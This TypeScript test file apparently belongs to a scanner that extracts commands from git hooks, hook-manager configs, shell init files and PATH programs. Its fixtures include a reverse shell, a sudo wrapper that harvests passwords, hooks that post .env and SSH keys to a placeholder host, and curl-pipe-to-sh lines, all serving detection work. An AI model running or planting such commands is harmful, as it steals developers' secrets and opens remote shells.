// Script files (git hooks, husky, .envrc, shell init, PATH programs) and hook managers (lefthook, pre-commit,
// simple-git-hooks).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ex, HOME, lines, PROJECT } from './helpers.ts';

test('a reverse shell in a husky hook; lint-staged is benign', () => {
  const bad = ex('hook-manager', '#!/usr/bin/env sh\n. "$(dirname -- "$0")/_/husky.sh"\n\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n', `${PROJECT}/.husky/pre-commit`);
  assert.equal(bad.label, 'husky pre-commit hook');
  assert.deepEqual(bad.commands, [{ line: '. "$(dirname -- "$0")/_/husky.sh"\n\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1', where: 'the whole file (after its #! line)' }]);
  assert.deepEqual(lines('hook-manager', 'npx lint-staged\n', `${PROJECT}/.husky/pre-commit`), ['npx lint-staged']);
});

test('git hook: label, shebang stripped; a python hook returns its interpreter and no shell', () => {
  const r = ex('git-hook', '#!/bin/bash\nset -e\nnpm test\n', `${PROJECT}/.git/hooks/pre-push`);
  assert.equal(r.label, 'git pre-push hook');
  assert.deepEqual(r.commands.map((c) => c.line), ['set -e\nnpm test']);
  const py = ex('git-hook', '#!/usr/bin/python3\nimport os\n', `${PROJECT}/.git/hooks/pre-commit`);
  assert.deepEqual([py.commands, py.interpreter], [[], 'python']);
  const node = ex('git-hook', '#!/usr/bin/env node\nrequire("x")\n', `${PROJECT}/.git/hooks/pre-commit`);
  assert.equal(node.interpreter, 'node');
  const none = ex('git-hook', 'curl x | sh\n', `${PROJECT}/.git/hooks/pre-commit`);
  assert.deepEqual([none.commands.map((c) => c.line), none.interpreter], [['curl x | sh'], undefined]);
});

test('.envrc and shell init are whole scripts; PATH programs too', () => {
  assert.equal(ex('envrc', 'use nix\nexport FOO=1\n', `${PROJECT}/.envrc`).label, 'direnv .envrc (runs on cd)');
  const rc = ex('shell-init', 'export PATH="$HOME/.local/bin:$PATH"\nalias ll="ls -l"\n', `${HOME}/.zshrc`);
  assert.deepEqual(rc.commands.map((c) => c.line), ['export PATH="$HOME/.local/bin:$PATH"\nalias ll="ls -l"']);
  assert.match(rc.label, /~\/\.zshrc/);
  const sudo = ex('path-program', '#!/bin/sh\nread -s pw; echo "$pw" | curl -d @- https://e.example; exec /usr/bin/sudo "$@"\n', `${HOME}/.local/bin/sudo`);
  assert.match(sudo.label, /sudo/);
  assert.equal(sudo.commands.length, 1);
});

test('fish config: lines, marked fish, block keywords dropped', () => {
  const r = ex('shell-init', 'set -gx PATH $HOME/bin $PATH\nif status is-interactive\n    curl -s https://e.example | sh\nend\n', `${HOME}/.config/fish/config.fish`);
  assert.deepEqual(r.commands.map((c) => [c.line, c.lang]), [['set -gx PATH $HOME/bin $PATH', 'fish'], ['status is-interactive', 'fish'], ['curl -s https://e.example | sh', 'fish']]);
  assert.equal(r.interpreter, 'fish');
});

test('lefthook: run commands anywhere (commands and jobs)', () => {
  const text = `pre-commit:\n  parallel: true\n  commands:\n    lint:\n      glob: "*.ts"\n      run: npx eslint {staged_files}\npre-push:\n  jobs:\n    - name: leak\n      run: curl -d @.env https://e.example\n`;
  assert.deepEqual(lines('hook-manager', text, `${PROJECT}/lefthook.yml`), ['npx eslint {staged_files}', 'curl -d @.env https://e.example']);
});

test('pre-commit: local hooks entry + args; pygrep and fail are not commands', () => {
  const text = `repos:
  - repo: https://github.com/psf/black
    rev: 24.1.0
    hooks: [{id: black}]
  - repo: local
    hooks:
      - id: leak
        name: leak
        entry: sh -c
        args: ["curl -d @$HOME/.ssh/id_rsa https://e.example"]
        language: system
      - id: no-todo
        entry: 'TODO'
        language: pygrep
`;
  assert.deepEqual(lines('hook-manager', text, `${PROJECT}/.pre-commit-config.yaml`), [`sh -c 'curl -d @$HOME/.ssh/id_rsa https://e.example'`]);
});

test('simple-git-hooks JSON file; broken JSON is scanned', () => {
  assert.deepEqual(lines('hook-manager', '{"pre-commit": "npx lint-staged", "preserveUnused": true}', `${PROJECT}/.simple-git-hooks.json`), ['npx lint-staged']);
  const r = ex('hook-manager', '"pre-push": "curl x | sh",', `${PROJECT}/.simple-git-hooks.json`);
  assert.deepEqual([r.commands.map((c) => c.line), r.partial], [['curl x | sh'], true]);
});

test('cron.daily scripts and systemd generators are scripts', () => {
  assert.deepEqual(lines('crontab', '#!/bin/sh\ncurl x | sh\n', '/etc/cron.daily/x'), ['curl x | sh']);
  assert.deepEqual(lines('systemd-unit', '#!/bin/sh\ncurl x | sh\n', '/etc/systemd/system-generators/x'), ['curl x | sh']);
});
